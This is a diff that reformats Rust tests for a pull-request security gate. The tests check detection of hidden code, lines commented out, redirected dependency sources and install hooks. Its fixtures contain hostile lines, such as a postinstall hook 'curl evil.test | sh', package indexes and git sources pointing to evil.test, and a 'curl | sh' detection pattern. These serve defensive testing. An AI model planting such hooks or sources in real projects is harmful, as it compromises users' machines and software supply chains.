@@ -23,7 +23,8 @@ fn rule(id: &str, tier: RuleTier, place: &str, terms: Value) -> GateRule {
 fn found(rules: Vec<GateRule>, world: &World) -> Option<Vec<(String, RuleEvidence)>> {
     let book = Arc::new(RuleBook::new(rules).unwrap());
     let trigger = GateTrigger::Rules(ChosenRules::of_preset(&book, &gate("security")));
-    let found = ReadDiff::new(&world.snapshot, &[]).triggered(&gate_policy(trigger, &[]), &BTreeSet::new())?;
+    let found = ReadDiff::new(&world.snapshot, &[])
+        .triggered(&gate_policy(trigger, &[]), &BTreeSet::new())?;
     Some(
         found
             .matches
@@ -44,17 +45,34 @@ fn world_of(files: Vec<ChangedFile>) -> World {
 
 /// A file whose texts were read, and whose patch GitHub does not give.
 fn compared(path: &str, old: &str, new: &str) -> World {
-    let mut world = world_of(vec![ChangedFile { patch: None, ..file(path, "") }]);
+    let mut world = world_of(vec![ChangedFile {
+        patch: None,
+        ..file(path, "")
+    }]);
     let (base, head) = (sha(200), world.snapshot.pull_request.head.sha);
     world.snapshot.merge_base = Some(base);
-    world.snapshot.contents.texts.insert((base, path.to_owned()), Content::Text(old.into()));
-    world.snapshot.contents.texts.insert((head, path.to_owned()), Content::Text(new.into()));
+    world
+        .snapshot
+        .contents
+        .texts
+        .insert((base, path.to_owned()), Content::Text(old.into()));
+    world
+        .snapshot
+        .contents
+        .texts
+        .insert((head, path.to_owned()), Content::Text(new.into()));
     world
 }
 
 /// Whether a rule about removed lines, and one about added lines, find the word `check`.
 fn finds(world: &World) -> (bool, bool) {
-    let on = |side| found(vec![rule("check", RuleTier::Opens, side, json!(["check"]))], world).is_some();
+    let on = |side| {
+        found(
+            vec![rule("check", RuleTier::Opens, side, json!(["check"]))],
+            world,
+        )
+        .is_some()
+    };
     (on("removed"), on("added"))
 }
 
@@ -62,48 +80,172 @@ fn finds(world: &World) -> (bool, bool) {
 fn no_line_is_excused() {
     for (path, patches, expected) in [
         // Moved to another file, moved within one, one of two equal lines: removed and added.
-        ("a.rs", &["@@ -1 +0,0 @@\n-check(a)", "@@ -0,0 +1 @@\n+check(a)"][..], (true, true)),
-        ("a.rs", &["@@ -1,3 +1,3 @@\n-check(a)\n delete(a)\n+check(a)"], (true, true)),
-        ("a.rs", &["@@ -1,2 +1 @@\n-check(a)\n-check(a)\n+check(a)"], (true, true)),
+        (
+            "a.rs",
+            &["@@ -1 +0,0 @@\n-check(a)", "@@ -0,0 +1 @@\n+check(a)"][..],
+            (true, true),
+        ),
+        (
+            "a.rs",
+            &["@@ -1,3 +1,3 @@\n-check(a)\n delete(a)\n+check(a)"],
+            (true, true),
+        ),
+        (
+            "a.rs",
+            &["@@ -1,2 +1 @@\n-check(a)\n-check(a)\n+check(a)"],
+            (true, true),
+        ),
         // Passed by a line that moves: it leaves its place. By one word it is not.
-        ("a.rs", &["@@ -1,4 +1,4 @@\n+delete_all()\n check(a)\n b()\n-delete_all()"], (true, false)),
-        ("a.yml", &["@@ -1,4 +1,4 @@\n user:\n+- delete_all\n check:\n-- delete_all"], (true, false)),
-        ("a.rs", &["@@ -1,4 +1,4 @@\n+}\n check(a)\n b()\n-}"], (false, false)),
+        (
+            "a.rs",
+            &["@@ -1,4 +1,4 @@\n+delete_all()\n check(a)\n b()\n-delete_all()"],
+            (true, false),
+        ),
+        (
+            "a.yml",
+            &["@@ -1,4 +1,4 @@\n user:\n+- delete_all\n check:\n-- delete_all"],
+            (true, false),
+        ),
+        (
+            "a.rs",
+            &["@@ -1,4 +1,4 @@\n+}\n check(a)\n b()\n-}"],
+            (false, false),
+        ),
         // An import, and a module that is called one of tests.
-        ("a.rs", &["@@ -1 +1 @@\n-use a::check;\n+use b::check;"], (true, true)),
-        ("a.rs", &["@@ -9 +9 @@ mod tests {\n-check(a)\n+check(b)"], (true, true)),
+        (
+            "a.rs",
+            &["@@ -1 +1 @@\n-use a::check;\n+use b::check;"],
+            (true, true),
+        ),
+        (
+            "a.rs",
+            &["@@ -9 +9 @@ mod tests {\n-check(a)\n+check(b)"],
+            (true, true),
+        ),
         // White space, where it means something and where it cannot.
-        ("a.py", &["@@ -1,2 +1,2 @@\n if a:\n-check(a)\n+    check(a)"], (true, true)),
-        ("a.yml", &["@@ -1,2 +1,2 @@\n a:\n-  check: 1\n+    check: 1"], (true, true)),
-        ("a.unknown", &["@@ -1 +1 @@\n-check(a)\n+  check(a)"], (true, true)),
-        ("a.rs", &["@@ -1 +1 @@\n-check(a)\n+    check(a)"], (false, false)),
-        ("a.rs", &["@@ -1 +1,3 @@\n-check(a)\n+if b {\n+    check(a)\n+}"], (true, true)),
+        (
+            "a.py",
+            &["@@ -1,2 +1,2 @@\n if a:\n-check(a)\n+    check(a)"],
+            (true, true),
+        ),
+        (
+            "a.yml",
+            &["@@ -1,2 +1,2 @@\n a:\n-  check: 1\n+    check: 1"],
+            (true, true),
+        ),
+        (
+            "a.unknown",
+            &["@@ -1 +1 @@\n-check(a)\n+  check(a)"],
+            (true, true),
+        ),
+        (
+            "a.rs",
+            &["@@ -1 +1 @@\n-check(a)\n+    check(a)"],
+            (false, false),
+        ),
+        (
+            "a.rs",
+            &["@@ -1 +1,3 @@\n-check(a)\n+if b {\n+    check(a)\n+}"],
+            (true, true),
+        ),
         // Comments that are none.
-        ("a.js", &["@@ -1 +1 @@\n+// x\u{2028} check(a)"], (false, true)),
+        (
+            "a.js",
+            &["@@ -1 +1 @@\n+// x\u{2028} check(a)"],
+            (false, true),
+        ),
         ("a.js", &["@@ -1 +1 @@\n+// x\r check(a)"], (false, true)),
-        ("A.java", &["@@ -1 +1 @@\n+// \\u000a check(a);"], (false, true)),
-        ("a.py", &["@@ -1 +1 @@\n+# coding: unicode_escape check"], (false, true)),
-        ("a.go", &["@@ -1 +1 @@\n+//go:linkname check a.check"], (false, true)),
-        ("a.go", &["@@ -1 +1 @@\n+// #include \"check.h\""], (false, true)),
-        ("Dockerfile", &["@@ -1 +1 @@\n+# syntax=evil/check"], (false, true)),
+        (
+            "A.java",
+            &["@@ -1 +1 @@\n+// \\u000a check(a);"],
+            (false, true),
+        ),
+        (
+            "a.py",
+            &["@@ -1 +1 @@\n+# coding: unicode_escape check"],
+            (false, true),
+        ),
+        (
+            "a.go",
+            &["@@ -1 +1 @@\n+//go:linkname check a.check"],
+            (false, true),
+        ),
+        (
+            "a.go",
+            &["@@ -1 +1 @@\n+// #include \"check.h\""],
+            (false, true),
+        ),
+        (
+            "Dockerfile",
+            &["@@ -1 +1 @@\n+# syntax=evil/check"],
+            (false, true),
+        ),
         ("a.c", &["@@ -1 +1 @@\n+// check \\"], (false, true)),
-        ("a.c", &["@@ -1,2 +1,2 @@\n #define A \\\n+// check"], (false, true)),
-        ("a.rb", &["@@ -1 +1,3 @@\n+s = <<~S\n+  #{check(a)}\n+S"], (false, true)),
-        ("a.php", &["@@ -1 +1 @@\n+// ?><?php check(a);"], (false, true)),
+        (
+            "a.c",
+            &["@@ -1,2 +1,2 @@\n #define A \\\n+// check"],
+            (false, true),
+        ),
+        (
+            "a.rb",
+            &["@@ -1 +1,3 @@\n+s = <<~S\n+  #{check(a)}\n+S"],
+            (false, true),
+        ),
+        (
+            "a.php",
+            &["@@ -1 +1 @@\n+// ?><?php check(a);"],
+            (false, true),
+        ),
         ("a.sql", &["@@ -1 +1 @@\n+/*!50000 check */"], (false, true)),
-        ("a.ts", &["@@ -1 +1,3 @@\n+let s = `\n+/* ${check(a)} */\n+`"], (false, true)),
-        ("a.ts", &["@@ -0,0 +1,2 @@\n+/* b */ check(a)\n+c"], (false, true)),
-        ("a.unknown", &["@@ -1 +1,3 @@\n+/*\n+check(a)\n+*/"], (false, true)),
+        (
+            "a.ts",
+            &["@@ -1 +1,3 @@\n+let s = `\n+/* ${check(a)} */\n+`"],
+            (false, true),
+        ),
+        (
+            "a.ts",
+            &["@@ -0,0 +1,2 @@\n+/* b */ check(a)\n+c"],
+            (false, true),
+        ),
+        (
+            "a.unknown",
+            &["@@ -1 +1,3 @@\n+/*\n+check(a)\n+*/"],
+            (false, true),
+        ),
         // Comments.
-        ("a.ts", &["@@ -1 +1,2 @@\n+// check\n-// check"], (false, false)),
-        ("a.ts", &["@@ -1 +1,4 @@\n+/**\n+ * Don't check(a) here.\n+ */"], (false, false)),
-        ("a.ml", &["@@ -1 +1,3 @@\n+(* one\n+   check(a) *)"], (false, false)),
+        (
+            "a.ts",
+            &["@@ -1 +1,2 @@\n+// check\n-// check"],
+            (false, false),
+        ),
+        (
+            "a.ts",
+            &["@@ -1 +1,4 @@\n+/**\n+ * Don't check(a) here.\n+ */"],
+            (false, false),
+        ),
+        (
+            "a.ml",
+            &["@@ -1 +1,3 @@\n+(* one\n+   check(a) *)"],
+            (false, false),
+        ),
         ("a.erl", &["@@ -1 +1,2 @@\n+% check(a)"], (false, false)),
-        ("a.ts", &["@@ -1,3 +0,0 @@\n-/**\n- * check(a)\n- */"], (false, false)),
+        (
+            "a.ts",
+            &["@@ -1,3 +0,0 @@\n-/**\n- * check(a)\n- */"],
+            (false, false),
+        ),
         // Look-alikes, and words across what joins them.
-        ("a.rs", &["@@ -1 +1 @@\n-\u{441}heck(a)\n+\u{ff43}heck(b)"], (true, true)),
+        (
+            "a.rs",
+            &["@@ -1 +1 @@\n-\u{441}heck(a)\n+\u{ff43}heck(b)"],
+            (true, true),
+        ),
     ] {
-        let files = patches.iter().enumerate().map(|(at, patch)| file(&format!("{at}/{path}"), patch)).collect();
+        let files = patches
+            .iter()
+            .enumerate()
+            .map(|(at, patch)| file(&format!("{at}/{path}"), patch))
+            .collect();
         assert_eq!(finds(&world_of(files)), expected, "{path} {patches:?}");
     }
 }
@@ -111,26 +253,76 @@ fn no_line_is_excused() {
 #[test]
 fn what_takes_lines_out_of_the_program_counts_them() {
     for (path, old, new, expected) in [
-        ("a.js", "a()\ncheck()\nb()", "a()\n/*\ncheck()\n*/\nb()", (true, false)),
-        ("a.js", "a()\n/*\ncheck()\n*/\nb()", "a()\ncheck()\nb()", (false, true)),
-        ("a.rs", "a()\ncheck()", "a(); /*\ncheck()\n*/", (true, false)),
+        (
+            "a.js",
+            "a()\ncheck()\nb()",
+            "a()\n/*\ncheck()\n*/\nb()",
+            (true, false),
+        ),
+        (
+            "a.js",
+            "a()\n/*\ncheck()\n*/\nb()",
+            "a()\ncheck()\nb()",
+            (false, true),
+        ),
+        (
+            "a.rs",
+            "a()\ncheck()",
+            "a(); /*\ncheck()\n*/",
+            (true, false),
+        ),
         ("a.js", "a()\ncheck()", "a(`\ncheck()\n`)", (true, false)),
-        ("a.py", "a()\ncheck()\nb()", "a()\n\"\"\"\ncheck()\n\"\"\"\nb()", (true, false)),
-        ("a.rb", "a\ncheck\nb", "a\n=begin\ncheck\n=end\nb", (true, false)),
+        (
+            "a.py",
+            "a()\ncheck()\nb()",
+            "a()\n\"\"\"\ncheck()\n\"\"\"\nb()",
+            (true, false),
+        ),
+        (
+            "a.rb",
+            "a\ncheck\nb",
+            "a\n=begin\ncheck\n=end\nb",
+            (true, false),
+        ),
         ("a.rb", "a\ncheck", "a\n__END__\ncheck", (true, true)),
         ("a.hs", "a\ncheck a", "{-\na\ncheck a\n-}", (true, false)),
-        ("a.lua", "a()\ncheck()", "a()\n--[[\ncheck()\n]]", (true, false)),
-        ("a.vue", "<a/>\n<check/>", "<a/>\n<!--\n<check/>\n-->", (true, false)),
+        (
+            "a.lua",
+            "a()\ncheck()",
+            "a()\n--[[\ncheck()\n]]",
+            (true, false),
+        ),
+        (
+            "a.vue",
+            "<a/>\n<check/>",
+            "<a/>\n<!--\n<check/>\n-->",
+            (true, false),
+        ),
         ("a.sh", "a\ncheck", "a\n: <<'X'\ncheck\nX", (true, false)),
-        ("a.c", "a();\ncheck();", "a();\n#if 0\ncheck();\n#endif", (true, true)),
+        (
+            "a.c",
+            "a();\ncheck();",
+            "a();\n#if 0\ncheck();\n#endif",
+            (true, true),
+        ),
         (
             "a.c",
             "#ifndef A\na();\ncheck();\n#endif",
             "#ifndef A\na();\n#ifdef B\ncheck();\n#endif\n#endif",
             (true, true),
         ),
-        ("a.go", "package a\nfunc check() {}", "//go:build ignore\npackage a\nfunc check() {}", (true, true)),
-        ("a.rs", "fn a() {}\nfn check() {\n}", "fn a() {}\n#[cfg(any())]\nfn check() {\n}", (true, true)),
+        (
+            "a.go",
+            "package a\nfunc check() {}",
+            "//go:build ignore\npackage a\nfunc check() {}",
+            (true, true),
+        ),
+        (
+            "a.rs",
+            "fn a() {}\nfn check() {\n}",
+            "fn a() {}\n#[cfg(any())]\nfn check() {\n}",
+            (true, true),
+        ),
         // Far from what changes.
         (
             "a.js",
@@ -139,11 +331,31 @@ fn what_takes_lines_out_of_the_program_counts_them() {
             (true, false),
         ),
         // A text that is not understood counts from the mark to its end.
-        ("a.js", "x = /`/\na()\ncheck()", "x = /`/\na() /*\ncheck()", (true, true)),
+        (
+            "a.js",
+            "x = /`/\na()\ncheck()",
+            "x = /`/\na() /*\ncheck()",
+            (true, true),
+        ),
         // What begins and ends in one run concerns nothing else; nor does another string of the same length of marks.
-        ("a.js", "a()\ncheck()", "/* why */\na()\ncheck()", (false, false)),
-        ("a.js", "a(`\n${check()}`)", "b(`\n${check()}`)", (false, false)),
-        ("a.rs", "fn check() {\n}", "#[cfg(test)]\nmod a {\n}\nfn check() {\n}", (false, false)),
+        (
+            "a.js",
+            "a()\ncheck()",
+            "/* why */\na()\ncheck()",
+            (false, false),
+        ),
+        (
+            "a.js",
+            "a(`\n${check()}`)",
+            "b(`\n${check()}`)",
+            (false, false),
+        ),
+        (
+            "a.rs",
+            "fn check() {\n}",
+            "#[cfg(test)]\nmod a {\n}\nfn check() {\n}",
+            (false, false),
+        ),
     ] {
         assert_eq!(finds(&compared(path, old, new)), expected, "{path} {new}");
     }
@@ -155,7 +367,10 @@ fn a_starred_line_is_a_suspect_where_it_is_added() {
     let world = world_of(vec![file("a.ts", patch)]);
     assert_eq!(finds(&world), (true, false));
     let two = ["check", "b"].map(|word| rule(word, RuleTier::Opens, "added", json!([word])));
-    assert_eq!(found(two.to_vec(), &world).map(|found| found.len()), Some(2));
+    assert_eq!(
+        found(two.to_vec(), &world).map(|found| found.len()),
+        Some(2)
+    );
 }
 
 #[test]
@@ -166,19 +381,46 @@ fn one_suspect_is_a_note_and_two_open() {
     let book = Arc::new(RuleBook::new(vec![suspect("role")]).unwrap());
     let trigger = GateTrigger::Rules(ChosenRules::of_preset(&book, &gate("security")));
     let notes = ReadDiff::new(&world.snapshot, &[]).suspects(&gate_policy(trigger, &[]));
-    assert!(matches!(&notes[..], [TriggerMatch { line: Some(1), reason: MatchReason::Rule { .. }, .. }]), "{notes:?}");
-    assert_eq!(found(vec![suspect("role"), suspect("token")], &world).map(|found| found.len()), Some(2));
+    assert!(
+        matches!(
+            &notes[..],
+            [TriggerMatch {
+                line: Some(1),
+                reason: MatchReason::Rule { .. },
+                ..
+            }]
+        ),
+        "{notes:?}"
+    );
+    assert_eq!(
+        found(vec![suspect("role"), suspect("token")], &world).map(|found| found.len()),
+        Some(2)
+    );
 }
 
 #[test]
 fn files_without_a_patch_are_compared_and_else_open() {
     assert_eq!(finds(&compared("a.rs", "a\n", "a\ncheck\n")), (false, true));
     assert_eq!(finds(&compared("a.rs", "a\n", "a\nb\n")), (false, false));
-    let missing = |path: &str, status| world_of(vec![ChangedFile { patch: None, status, ..file(path, "") }]);
-    for (path, opens) in
-        [("a.jar", true), ("a.rs", true), ("docs/a.pdf", false), ("a.png", false), ("vendor/a.so", false)]
-    {
-        assert_eq!(finds(&missing(path, FileStatus::Modified)), (opens, opens), "{path}");
+    let missing = |path: &str, status| {
+        world_of(vec![ChangedFile {
+            patch: None,
+            status,
+            ..file(path, "")
+        }])
+    };
+    for (path, opens) in [
+        ("a.jar", true),
+        ("a.rs", true),
+        ("docs/a.pdf", false),
+        ("a.png", false),
+        ("vendor/a.so", false),
+    ] {
+        assert_eq!(
+            finds(&missing(path, FileStatus::Modified)),
+            (opens, opens),
+            "{path}"
+        );
     }
 }
 
@@ -187,7 +429,11 @@ fn a_rename_to_another_kind_counts_all_lines() {
     let renamed = |from: &str, to: &str| {
         let mut world = compared(to, "", "check\n");
         let base = sha(200);
-        world.snapshot.contents.texts.insert((base, from.to_owned()), Content::Text("check\n".into()));
+        world
+            .snapshot
+            .contents
+            .texts
+            .insert((base, from.to_owned()), Content::Text("check\n".into()));
         let renamed = ChangedFile {
             previous_path: Some(from.into()),
             status: FileStatus::Renamed,
@@ -256,15 +502,34 @@ fn a_guarded_path_opens_at_any_change() {
     ] {
         assert_eq!(opens(changed(path)), expected, "{path}");
     }
-    let mode =
-        ChangedFile { patch: None, additions: 0, deletions: 0, status: FileStatus::Changed, ..file("auth/a.sh", "") };
-    let moved =
-        ChangedFile { previous_path: Some("auth/a.sh".into()), status: FileStatus::Renamed, ..file("b.sh", "") };
-    let into = ChangedFile { previous_path: Some("b.sh".into()), status: FileStatus::Renamed, ..file("auth/a.sh", "") };
-    let copied = ChangedFile { status: FileStatus::Copied, ..into.clone() };
+    let mode = ChangedFile {
+        patch: None,
+        additions: 0,
+        deletions: 0,
+        status: FileStatus::Changed,
+        ..file("auth/a.sh", "")
+    };
+    let moved = ChangedFile {
+        previous_path: Some("auth/a.sh".into()),
+        status: FileStatus::Renamed,
+        ..file("b.sh", "")
+    };
+    let into = ChangedFile {
+        previous_path: Some("b.sh".into()),
+        status: FileStatus::Renamed,
+        ..file("auth/a.sh", "")
+    };
+    let copied = ChangedFile {
+        status: FileStatus::Copied,
+        ..into.clone()
+    };
     assert!(opens(mode) && opens(moved) && opens(into) && opens(copied));
     // Moved to where the path or the kind is another, without a line that changes.
-    for (from, to) in [("src/auth/a.py", "src/b.py"), ("src/auth/a.py", "docs/a.md"), ("docs/auth.md", "src/auth.py")] {
+    for (from, to) in [
+        ("src/auth/a.py", "src/b.py"),
+        ("src/auth/a.py", "docs/a.md"),
+        ("docs/auth.md", "src/auth.py"),
+    ] {
         let moved = ChangedFile {
             previous_path: Some(from.into()),
             status: FileStatus::Renamed,
@@ -289,25 +554,104 @@ fn sources_hooks_and_actions_of_packages() {
             world.snapshot.pull_request.author.kind = AccountKind::Bot;
             world.snapshot.pull_request.author.login = login("renovate[bot]");
         }
-        found(vec![rule("it", RuleTier::Opens, "manifest", json!(change))], &world).is_some()
+        found(
+            vec![rule("it", RuleTier::Opens, "manifest", json!(change))],
+            &world,
+        )
+        .is_some()
     };
     for (change, path, line, expected) in [
-        (source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"github:a/jose#main\",", true),
-        (source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"a/jose#main\",", true),
-        (source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"^6\",", false),
-        (source, "package.json", "+  \"homepage\": \"https://acme.test\",", false),
-        (source, "package.json", "+  \"main\": \"dist/index\",", false),
-        (source, "package.json", "+    \"./cli\": \"./dist/cli.js\",", false),
-        (source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"somebody/jose\",", true),
-        (source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"https://evil.test/jose\",", true),
-        (source, "package.json", "+    \"**/jose\": \"npm:evil@5\",", true),
-        (source, "package.json", "-    \"jose\": \"^5\",\n+    \"jose\": \"file:../jose\",", true),
-        (source, "requirements.txt", "+--extra-index-url https://evil.test/simple", true),
-        (source, "requirements.txt", "+flask @ git+https://evil.test/flask", true),
+        (
+            source,
+            "package.json",
+            "-    \"jose\": \"^5\",\n+    \"jose\": \"github:a/jose#main\",",
+            true,
+        ),
+        (
+            source,
+            "package.json",
+            "-    \"jose\": \"^5\",\n+    \"jose\": \"a/jose#main\",",
+            true,
+        ),
+        (
+            source,
+            "package.json",
+            "-    \"jose\": \"^5\",\n+    \"jose\": \"^6\",",
+            false,
+        ),
+        (
+            source,
+            "package.json",
+            "+  \"homepage\": \"https://acme.test\",",
+            false,
+        ),
+        (
+            source,
+            "package.json",
+            "+  \"main\": \"dist/index\",",
+            false,
+        ),
+        (
+            source,
+            "package.json",
+            "+    \"./cli\": \"./dist/cli.js\",",
+            false,
+        ),
+        (
+            source,
+            "package.json",
+            "-    \"jose\": \"^5\",\n+    \"jose\": \"somebody/jose\",",
+            true,
+        ),
+        (
+            source,
+            "package.json",
+            "-    \"jose\": \"^5\",\n+    \"jose\": \"https://evil.test/jose\",",
+            true,
+        ),
+        (
+            source,
+            "package.json",
+            "+    \"**/jose\": \"npm:evil@5\",",
+            true,
+        ),
+        (
+            source,
+            "package.json",
+            "-    \"jose\": \"^5\",\n+    \"jose\": \"file:../jose\",",
+            true,
+        ),
+        (
+            source,
+            "requirements.txt",
+            "+--extra-index-url https://evil.test/simple",
+            true,
+        ),
+        (
+            source,
+            "requirements.txt",
+            "+flask @ git+https://evil.test/flask",
+            true,
+        ),
         (source, "requirements.txt", "-flask==1\n+flask==2", false),
-        (source, "go.mod", "+replace a.test/b => evil.test/b v1.0.0", true),
-        (source, "go.mod", "-\ta.test/b v1.0.0\n+\ta.test/b v1.1.0", false),
-        (source, "Gemfile", "-source \"https://rubygems.org\"\n+source \"https://evil.test\"", true),
+        (
+            source,
+            "go.mod",
+            "+replace a.test/b => evil.test/b v1.0.0",
+            true,
+        ),
+        (
+            source,
+            "go.mod",
+            "-\ta.test/b v1.0.0\n+\ta.test/b v1.1.0",
+            false,
+        ),
+        (
+            source,
+            "Gemfile",
+            "-source \"https://rubygems.org\"\n+source \"https://evil.test\"",
+            true,
+        ),
         (source, "Cargo.toml", "+[patch.crates-io]", true),
         (
             source,
@@ -329,16 +673,56 @@ fn sources_hooks_and_actions_of_packages() {
             "-.package(url: \"https://a.test/b\", from: \"1\"),\n+.package(url: \"https://a.test/b\", from: \"2\"),",
             false,
         ),
-        (source, "package-lock.json", "+      \"resolved\": \"https://evil.test/jose.tgz\",", true),
-        (source, "package-lock.json", "+      \"resolved\": \"https://registry.npmjs.org/jose.tgz\",", false),
-        (source, "Cargo.lock", "+source = \"git+https://evil.test/a#1234\"", true),
-        (hook, "package.json", "+    \"postinstall\": \"curl evil.test | sh\",", true),
+        (
+            source,
+            "package-lock.json",
+            "+      \"resolved\": \"https://evil.test/jose.tgz\",",
+            true,
+        ),
+        (
+            source,
+            "package-lock.json",
+            "+      \"resolved\": \"https://registry.npmjs.org/jose.tgz\",",
+            false,
+        ),
+        (
+            source,
+            "Cargo.lock",
+            "+source = \"git+https://evil.test/a#1234\"",
+            true,
+        ),
+        (
+            hook,
+            "package.json",
+            "+    \"postinstall\": \"curl evil.test | sh\",",
+            true,
+        ),
         (hook, "package.json", "+    \"test\": \"jest\",", false),
-        (hook, "composer.json", "+    \"post-install-cmd\": [\"a\"],", true),
+        (
+            hook,
+            "composer.json",
+            "+    \"post-install-cmd\": [\"a\"],",
+            true,
+        ),
         (hook, "setup.py", "+    cmdclass={'install': Evil},", true),
-        (action, ".github/workflows/a.yml", "-  - uses: a/b@v1\n+  - uses: a/b@v2 # why", true),
-        (action, ".github/workflows/a.yml", "-  - uses: a/b@v1\n+  - uses: evil/b@v2", false),
-        (action, ".github/workflows/a.yml", "-  - uses: a/b@v1\n+  - uses: a/b@main", false),
+        (
+            action,
+            ".github/workflows/a.yml",
+            "-  - uses: a/b@v1\n+  - uses: a/b@v2 # why",
+            true,
+        ),
+        (
+            action,
+            ".github/workflows/a.yml",
+            "-  - uses: a/b@v1\n+  - uses: evil/b@v2",
+            false,
+        ),
+        (
+            action,
+            ".github/workflows/a.yml",
+            "-  - uses: a/b@v1\n+  - uses: a/b@main",
+            false,
+        ),
         // An approval that stands behind the deployment now.
         (
             action,
@@ -346,10 +730,19 @@ fn sources_hooks_and_actions_of_packages() {
             "-  - uses: a/approve@v1\n   - run: deploy\n+  - uses: a/approve@v1",
             false,
         ),
-        (source, "lib/shop", "-Subproject commit 1111\n+Subproject commit 2222", true),
+        (
+            source,
+            "lib/shop",
+            "-Subproject commit 1111\n+Subproject commit 2222",
+            true,
+        ),
     ] {
         let patch = format!("@@ -9,9 +9,9 @@\n{line}");
-        assert_eq!(finds(change, path, &patch, false), expected, "{path} {line}");
+        assert_eq!(
+            finds(change, path, &patch, false),
+            expected,
+            "{path} {line}"
+        );
     }
     let pins = "@@ -1 +1 @@\n-  - uses: a/b@1111111111111111111111111111111111111111 # v1\n+  - uses: a/b@2222222222222222222222222222222222222222 # v2";
     assert!(finds(action, ".github/workflows/a.yml", pins, true));
@@ -364,9 +757,14 @@ fn expressions_read_lines_that_go_on() {
         let world = world_of(vec![file(path, patch)]);
         let by_rule = found(vec![rule("it", RuleTier::Opens, "added", terms)], &world).is_some();
         let wanted = vec![crate::policy::Pattern::parse(r"curl\b.*\|\s*sh\b").unwrap()];
-        let wanted = crate::policy::LineCondition { patterns: wanted, ..Default::default() };
+        let wanted = crate::policy::LineCondition {
+            patterns: wanted,
+            ..Default::default()
+        };
         let trigger = gate_policy(GateTrigger::AddedLines(wanted), &[]);
-        let by_condition = ReadDiff::new(&world.snapshot, &[]).triggered(&trigger, &BTreeSet::new()).is_some();
+        let by_condition = ReadDiff::new(&world.snapshot, &[])
+            .triggered(&trigger, &BTreeSet::new())
+            .is_some();
         assert_eq!(by_rule, by_condition, "{path} {patch}");
         by_rule
     };
@@ -382,7 +780,11 @@ fn expressions_read_lines_that_go_on() {
         ("Dockerfile", "+RUN curl -s x \\\n+  # why\n+  | sh", true),
         ("a.yml", "+run: >-\n+  curl -s\n+  x\n+\n+  | sh", true),
         ("a.yml", "+- >\n+  curl -s x |\n+  sh", true),
-        ("a.yml", "+command: >  # why\n+  curl -s x -o - | s\n+  h", false),
+        (
+            "a.yml",
+            "+command: >  # why\n+  curl -s x -o - | s\n+  h",
+            false,
+        ),
         // Lines of their own, and lines that leave.
         ("a.sh", "+curl -s x\n+a | sh", false),
         ("a.yml", "+run: >-\n+  curl -s x\n+name: a | sh", false),
@@ -390,7 +792,11 @@ fn expressions_read_lines_that_go_on() {
         ("a.sh", "-curl -s x \\\n-  | sh\n+a", false),
         ("a.sh", " curl -s x \\\n   | sh\n+a", false),
     ] {
-        assert_eq!(opens(path, &format!("@@ -1,9 +1,9 @@\n{lines}")), expected, "{path} {lines}");
+        assert_eq!(
+            opens(path, &format!("@@ -1,9 +1,9 @@\n{lines}")),
+            expected,
+            "{path} {lines}"
+        );
     }
     let long = "+curl \\\n".repeat(100_000);
     assert!(opens("a.sh", &format!("@@ -0,0 +1,100001 @@\n{long}+| sh")));
@@ -398,11 +804,24 @@ fn expressions_read_lines_that_go_on() {
 
 #[test]
 fn a_lock_file_that_cannot_be_read_opens() {
-    let lock = ChangedFile { patch: None, ..file("Cargo.lock", "") };
+    let lock = ChangedFile {
+        patch: None,
+        ..file("Cargo.lock", "")
+    };
     let source = || vec![rule("source", RuleTier::Opens, "manifest", json!("source"))];
     assert!(found(source(), &world_of(vec![lock])).is_some());
     assert!(found(source(), &compared("Cargo.lock", "a\n", "a\nb\n")).is_none());
-    assert!(found(source(), &compared("Cargo.lock", "a\n", "source = \"git+https://evil.test/a#1\"\n")).is_some());
+    assert!(
+        found(
+            source(),
+            &compared(
+                "Cargo.lock",
+                "a\n",
+                "source = \"git+https://evil.test/a#1\"\n"
+            )
+        )
+        .is_some()
+    );
 }
 
 /// What somebody writes costs in proportion to its length: more would be seen as a test that does not end.
@@ -426,15 +845,48 @@ fn the_files_to_read_are_those_that_patches_do_not_tell_of() {
         let mut world = world_of(files);
         let looks = gate_policy(GateTrigger::AddedLines(LineCondition::default()), &[]);
         world.policy.gates = [(gate("security"), looks)].into();
-        files_to_read(&world.snapshot, &world.policy).into_iter().map(|(_, path)| path).collect()
+        files_to_read(&world.snapshot, &world.policy)
+            .into_iter()
+            .map(|(_, path)| path)
+            .collect()
     };
-    assert_eq!(names(vec![file("a.rs", "@@ -1 +1 @@\n+x")]), Vec::<String>::new());
-    assert_eq!(names(vec![file("a.rs", "@@ -1,2 +1,3 @@\n+/*\n a")]), ["a.rs", "a.rs"]);
-    assert_eq!(names(vec![ChangedFile { patch: None, ..file("a.rs", "") }]), ["a.rs", "a.rs"]);
-    assert_eq!(names(vec![ChangedFile { patch: None, ..file("a.png", "") }]), Vec::<String>::new());
-    assert_eq!(names(vec![file("Cargo.lock", "@@ -1 +1 @@\n+x")]), ["Cargo.lock", "Cargo.lock"]);
-    let new = ChangedFile { patch: None, status: FileStatus::Added, ..file("big.rs", "") };
+    assert_eq!(
+        names(vec![file("a.rs", "@@ -1 +1 @@\n+x")]),
+        Vec::<String>::new()
+    );
+    assert_eq!(
+        names(vec![file("a.rs", "@@ -1,2 +1,3 @@\n+/*\n a")]),
+        ["a.rs", "a.rs"]
+    );
+    assert_eq!(
+        names(vec![ChangedFile {
+            patch: None,
+            ..file("a.rs", "")
+        }]),
+        ["a.rs", "a.rs"]
+    );
+    assert_eq!(
+        names(vec![ChangedFile {
+            patch: None,
+            ..file("a.png", "")
+        }]),
+        Vec::<String>::new()
+    );
+    assert_eq!(
+        names(vec![file("Cargo.lock", "@@ -1 +1 @@\n+x")]),
+        ["Cargo.lock", "Cargo.lock"]
+    );
+    let new = ChangedFile {
+        patch: None,
+        status: FileStatus::Added,
+        ..file("big.rs", "")
+    };
     assert_eq!(names(vec![new]), ["big.rs"]);
-    let many = (0..30).map(|n| ChangedFile { patch: None, ..file(&format!("{n}.rs"), "") }).collect();
+    let many = (0..30)
+        .map(|n| ChangedFile {
+            patch: None,
+            ..file(&format!("{n}.rs"), "")
+        })
+        .collect();
     assert_eq!(names(many).len(), 40);
 }
